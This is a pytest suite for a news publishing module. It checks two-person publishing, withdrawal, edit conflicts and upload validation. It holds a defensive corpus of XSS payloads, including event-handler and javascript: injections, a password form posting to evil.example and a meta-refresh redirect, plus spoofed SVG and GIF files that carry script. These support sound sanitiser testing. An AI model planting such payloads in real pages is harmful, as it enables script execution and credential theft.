"""News: written by one person, published by another, cleaned on saving, and nowhere before that."""

import io
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from PIL import Image

from shuixin.access import Actor
from shuixin.errors import Conflict, Forbidden, Refused
from shuixin.kit.attachments import Attachment
from shuixin.testing.fixtures import SignedIn
from shuixin_news import services
from shuixin_news.models import Article, Column
from shuixin_news.services import Content

PUBLIC = ("/", "/news/", "/news/work/", "/search?q=富河", "/sitemap.xml", "/feeds/news.atom")
BODY = "<p>富河治理工程开工。</p>"
DESK, PRESS = "/office/news/articles", "/office/news/publishing"


@pytest.fixture
def column(platform_app: Any) -> Column:
    found: Column = Column.get_or_none(Column.slug == "work") or Column.create(slug="work", label="工作动态")
    return found


@pytest.fixture
def written(actor_as: Callable[..., Actor], column: Column) -> Callable[..., Article]:
    """Write an article: ``written(title="…", picture=True)``."""

    def make(*, picture: bool = False, **changed: Any) -> Article:
        facts = {"column": column.id, "title": "富河治理工程开工建设", "body_html": BODY, **changed}
        file = (_png(), "开工.png") if picture else None
        return services.save(actor_as("editor"), Content(**facts), picture=file)

    return make


def _png(kind: str = "PNG") -> io.BytesIO:
    stream = io.BytesIO()
    Image.new("RGB", (64, 48), "white").save(stream, kind)
    stream.seek(0)
    return stream


def _publish(actor_as: Callable[..., Actor], article: Article) -> Article:
    return services.publish(actor_as("leader"), article.id, version=article.row_version)


def test_a_draft_is_nowhere_until_somebody_else_publishes_it(
    written: Callable[..., Article], actor_as: Callable[..., Actor], client: SignedIn
) -> None:
    article = written()
    address = f"/news/work/{article.id}"
    assert client.get(address).status_code == 404
    assert [path for path in PUBLIC if article.title in client.get(path).get_data(as_text=True)] == []
    article = _publish(actor_as, article)
    assert client.get(address).status_code == 200
    fresh = [path for path in PUBLIC if path != "/"]  # the front page keeps its panels for some seconds
    assert [path for path in fresh if address not in client.get(path).get_data(as_text=True)] == []
    services.withdraw(actor_as("leader"), article.id, version=article.row_version, reason="数据有误，核实后重发")
    assert client.get(address).status_code == 404
    assert [path for path in fresh if address in client.get(path).get_data(as_text=True)] == []


def test_the_writer_cannot_publish_the_own_text(
    written: Callable[..., Article], actor_as: Callable[..., Actor]
) -> None:
    article = written()
    with pytest.raises(Forbidden):
        services.publish(actor_as("editor"), article.id, version=article.row_version)
    both = actor_as("leader")
    Article.update(written_by=both.id).where(Article.id == article.id).execute()
    with pytest.raises(Forbidden):
        services.publish(both, article.id, version=article.row_version)
    assert Article.get().status == services.DRAFT


def test_a_published_text_that_is_changed_must_be_published_anew(
    written: Callable[..., Article], actor_as: Callable[..., Actor], client: SignedIn, column: Column
) -> None:
    article = _publish(actor_as, written())
    content = Content(column.id, "富河治理工程改期", "<p>改期。</p>")
    changed = services.save(actor_as("editor"), content, article_id=article.id, version=article.row_version)
    assert changed.status == services.DRAFT
    assert client.get(f"/news/work/{article.id}").status_code == 404
    assert article.title not in client.get("/search?q=富河").get_data(as_text=True)
    again = _publish(actor_as, changed)
    assert again.published_at == article.published_at


def test_what_was_decided_meanwhile_is_not_overwritten(
    written: Callable[..., Article], actor_as: Callable[..., Actor], column: Column
) -> None:
    article = written()
    services.save(actor_as("editor"), Content(column.id, "另一个标题", BODY), article_id=article.id, version=2)
    with pytest.raises(Conflict):
        _publish(actor_as, article)
    with pytest.raises(Conflict):
        services.save(actor_as("editor"), Content(column.id, "过时的标题", BODY), article_id=article.id, version=2)
    assert (Article.get().title, Article.get().status) == ("另一个标题", services.DRAFT)


CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<img src=https://evil.example/pixel.gif>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
]


class _Inventory(HTMLParser):
    """What of a page could act: elements and attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("attack", CORPUS)
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_attack_is_dead_in_the_database_and_on_every_page(
    attack: str, written: Callable[..., Article], actor_as: Callable[..., Actor], client: SignedIn
) -> None:
    article = _publish(actor_as, written(title=f"标题{attack}", body_html=BODY + attack, summary=attack))
    stored = _Inventory()
    stored.feed(Article.get().body_html)
    assert stored.tags <= {"p", "a", "img"}
    assert not [name for name, _value in stored.attributes if name.startswith("on")]
    for path in (f"/news/work/{article.id}", "/news/", "/search?q=富河", "/"):
        page = client.get(path).get_data(as_text=True)
        main = _Inventory()
        main.feed(page[page.index("<main") : page.index("</main>")])
        assert not main.tags & {"script", "iframe", "math", "base", "meta", "style"}, path
        assert not [each for each in main.attributes if each[0].startswith("on") or "evil" in each[1]], path
        assert not [each for each in main.attributes if "script:" in re.sub(r"\s", "", each[1])], path


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "图.svg"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "图.png"),
        (b"%PDF-1.4\n", "图.png"),
        (b"GIF89a<script>alert(1)</script>", "图.jpg"),
        (b"\x89PNG\r\n\x1a\n", "图.png"),
        (b"", "图.png"),
    ],
)
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_picture_that_is_none_is_refused(
    content: bytes, name: str, client_as: Callable[..., SignedIn], column: Column
) -> None:
    editor = client_as("editor")
    form = {"file": (io.BytesIO(content), name)}
    answer = editor.post_form(f"{DESK}/upload", form, content_type="multipart/form-data")
    assert answer.status_code in {400, 422}
    assert answer.get_json()["detail"]
    whole = {"title": "一篇有图的文章", "column": str(column.id), "body_html": BODY, "picture_alt": "开工现场的照片"}
    whole_form = {**whole, "picture": (io.BytesIO(content), name)}
    page = editor.post_form(f"{DESK}/new", whole_form, content_type="multipart/form-data")
    assert page.status_code == 422
    assert 'value="一篇有图的文章"' in page.get_data(as_text=True)
    assert Attachment.select().count() == Article.select().count() == 0


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_picture_is_served_as_a_picture_only(client_as: Callable[..., SignedIn], client: SignedIn) -> None:
    form = {"file": (_png("JPEG"), "现场.jpg")}
    answer = client_as("editor").post_form(f"{DESK}/upload", form, content_type="multipart/form-data")
    address = answer.get_json()["location"]
    served = client.get(address)
    assert (served.status_code, served.mimetype) == (200, "image/jpeg")
    served.close()
    assert client.get(address.replace(".jpg", ".png")).status_code == 404


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_picture_article_needs_words_for_the_picture(
    written: Callable[..., Article], actor_as: Callable[..., Actor], client: SignedIn
) -> None:
    with pytest.raises(Refused) as refusal:
        written(picture=True)
    assert [problem.field for problem in refusal.value.problems] == ["picture_alt"]
    article = _publish(actor_as, written(picture=True, picture_alt="挖掘机在河岸作业"))
    assert 'alt="挖掘机在河岸作业"' in client.get(f"/news/work/{article.id}").get_data(as_text=True)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_every_mistake_of_the_form_is_named_and_the_text_kept(client_as: Callable[..., SignedIn]) -> None:
    form = {"title": "短", "column": "0", "body_html": "<p> </p>", "summary": "留住的摘要"}
    answer = client_as("editor").post_form(f"{DESK}/new", form)
    page = answer.get_data(as_text=True)
    assert answer.status_code == 422
    for words in ("标题须为4至100个字", "没有选择栏目", "正文没有填写", "留住的摘要"):
        assert words in page
    assert Article.select().count() == 0


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_overtaken_form_comes_back_with_its_text(
    written: Callable[..., Article], client_as: Callable[..., SignedIn], column: Column
) -> None:
    article, editor = written(), client_as("editor")
    form = {"title": "先保存的标题", "column": str(column.id), "body_html": BODY, "version": str(article.row_version)}
    assert editor.post_form(f"{DESK}/{article.id}", form).status_code == 302
    answer = editor.post_form(f"{DESK}/{article.id}", {**form, "title": "后保存的标题"})
    page = answer.get_data(as_text=True)
    assert (answer.status_code, 'value="后保存的标题"' in page) == (409, True)
    assert Article.get().title == "先保存的标题"
    now = re.findall(r'name="version" value="(\d+)"', page)[0]
    editor.post_form(f"{DESK}/{article.id}", {**form, "title": "后保存的标题", "version": now})
    assert Article.get().title == "后保存的标题"


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_the_press_shows_publishes_and_withdraws_with_a_reason(
    written: Callable[..., Article], client_as: Callable[..., SignedIn], client: SignedIn
) -> None:
    article, leader = written(), client_as("leader")
    assert article.title in leader.get(f"{PRESS}/").get_data(as_text=True)
    leader.post_form(f"{PRESS}/{article.id}/publish", {"version": str(article.row_version)})
    assert client.get(f"/news/work/{article.id}").status_code == 200
    version = str(Article.get().row_version)
    hasty = leader.post_form(f"{PRESS}/{article.id}/withdraw", {"version": version, "reason": ""})
    assert hasty.status_code == 422
    leader.post_form(f"{PRESS}/{article.id}/withdraw", {"version": version, "reason": "数据有误，核实后重发"})
    assert client.get(f"/news/work/{article.id}").status_code == 404
    assert (Article.get().status, Article.get().reason) == (services.WITHDRAWN, "数据有误，核实后重发")


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_editor_has_no_press_and_a_leader_no_desk(client_as: Callable[..., SignedIn]) -> None:
    assert client_as("editor").get(f"{PRESS}/").status_code == 403
    assert client_as("leader").get(f"{DESK}/").status_code == 403
